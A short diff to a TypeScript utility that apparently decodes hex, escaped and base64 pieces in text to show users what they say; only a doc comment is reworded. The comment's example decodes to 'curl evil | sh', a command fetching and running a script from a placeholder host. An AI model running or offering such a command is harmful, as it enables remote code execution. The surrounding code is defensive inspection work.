@@ -6,8 +6,8 @@ const HEX = /(?:0x)?(?:[0-9a-fA-F]{2}){6,}/g;
 const ESCAPED = /(?:\\x[0-9a-fA-F]{2}|%[0-9a-fA-F]{2}){4,}/g;
 
 /**
- * What encoded pieces of a text say, for people's eyes beside the text itself: `Y3VybCBldmlsL… says: curl evil | sh`. Decoded again where
- * that holds such a piece too. Only what turns out to be plain text counts; nothing is judged by it.
+ * The decoded content of encoded pieces, shown to the user beside the text: `Y3VybCBldmlsL… says: curl evil | sh`.
+ * Decoded again if the result contains such a piece. Only plain text counts; no judgement uses it.
  */
 export function decodedPayloads(text: string): readonly string[] {
   return plainPieces(text.slice(0, 128_000), MAX_PAYLOADS).map(
